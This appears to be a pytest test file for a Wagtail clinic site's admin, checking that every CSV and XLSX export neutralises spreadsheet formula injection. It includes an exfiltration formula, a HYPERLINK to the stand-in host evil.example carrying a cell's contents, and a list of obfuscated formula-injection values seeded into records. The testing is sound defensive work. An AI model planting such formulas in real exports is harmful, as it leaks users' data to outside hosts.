"""Every export of the admin, Wagtail's own too: what somebody typed is text in a spreadsheet, and never a formula."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver
from django.utils.safestring import mark_safe
from django.utils.text import format_lazy
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect

from blog.models import HealthTipPage
from clinic.core.spreadsheets import FORMULA_STARTS
from tests import factories
from tests.factories import (
    GoogleListingFactory,
    HealthTipPageFactory,
    LeadFactory,
    NoticeFactory,
    UserFactory,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def views_that_export(patterns: Any = None, prefix: str = "/") -> Iterator[tuple[str, Any]]:
    """(address, view) of every list and report that can be downloaded."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from views_that_export(pattern.url_patterns, route)
            continue
        view = pattern.callback
        while not hasattr(view, "view_class") and hasattr(view, "__wrapped__"):
            view = view.__wrapped__
        view_class = getattr(view, "view_class", None)
        if view_class and issubclass(view_class, SpreadsheetExportMixin):
            fields = getattr(view, "view_initkwargs", {}).get("list_export") or view_class.list_export
            if fields and "<" not in route and "(" not in route:
                yield route, view


def subclasses(of: type) -> Iterator[type]:
    for subclass in of.__subclasses__():
        yield subclass
        yield from subclasses(subclass)


HOSTILE = [
    FORMULA,
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "＝1",
    "\x0b=1",
    "\x00=1",
    ["=1", "b"],
    format_lazy("{}", "=1"),
    mark_safe("=1"),
    type("Thing", (), {"__str__": lambda self: "=1"})(),
]


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("format_", SpreadsheetExportMixin.FORMATS)
def test_no_view_writes_a_formula(value: Any, format_: str) -> None:
    get_resolver().url_patterns  # noqa: B018 (looking at them is what imports every view)
    views = set(subclasses(SpreadsheetExportMixin))
    assert len(views) >= 25
    for view in views:
        cell = view.preprocess_field_value(view(), "title", value, format_)  # type: ignore[attr-defined]
        assert not str(cell).lstrip().startswith(FORMULA_STARTS), (view, cell)


@pytest.mark.parametrize("value", [None, -5, -1.5, True, date(2026, 1, 2), datetime(2026, 1, 2, tzinfo=UTC)])
def test_numbers_and_days_stay_what_they_are(value: Any) -> None:
    cell = SpreadsheetExportMixin().preprocess_field_value("x", value, "csv")
    assert cell == value
    assert type(cell) is type(value)


def cells(response: Any, format_: str) -> list[str]:
    """Every cell of a spreadsheet below its headings, as text."""
    content = response.getvalue()
    if format_ == "csv":
        rows: Any = list(csv.reader(StringIO(content.decode())))
    else:
        sheet = load_workbook(BytesIO(content)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        rows = [["" if cell is None else str(cell) for cell in row] for row in sheet.values]
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("format_", SpreadsheetExportMixin.FORMATS)
def test_every_download_of_the_admin_with_hostile_names(home: Any, admin: Client, format_: str) -> None:
    page = HealthTipPageFactory(title=FORMULA)
    page.save_revision().publish()
    HealthTipPage.objects.filter(pk=page.pk).update(locked=True)
    UserFactory(username="mallory", first_name=FORMULA, last_name="@x")
    Redirect.objects.create(old_path="/=1+1", redirect_link="/x/")
    NoticeFactory(title=FORMULA)
    GoogleListingFactory(name=FORMULA)
    factories.TestimonialFactory(label=FORMULA)
    LeadFactory(first_name="=1+1")
    addresses = dict(views_that_export())
    assert {
        "/admin/reports/aging-pages/",
        "/admin/reports/site-history/",
        "/admin/reports/locked/",
        "/admin/redirects/",
        "/admin/lead/",
    } <= set(addresses), sorted(addresses)
    with_a_formula = set()
    for address in addresses:
        response = admin.get(address, {"export": format_})
        assert response.status_code == 200, address
        if "attachment" not in response.get("Content-Disposition", ""):
            continue
        found = cells(response, format_)
        assert not [cell for cell in found if cell.startswith(FORMULA_STARTS)], address
        if any("HYPERLINK" in cell or "=1" in cell for cell in found):
            with_a_formula.add(address)
    assert {
        "/admin/reports/aging-pages/",
        "/admin/reports/site-history/",
        "/admin/reports/locked/",
        "/admin/lead/",
    } <= with_a_formula
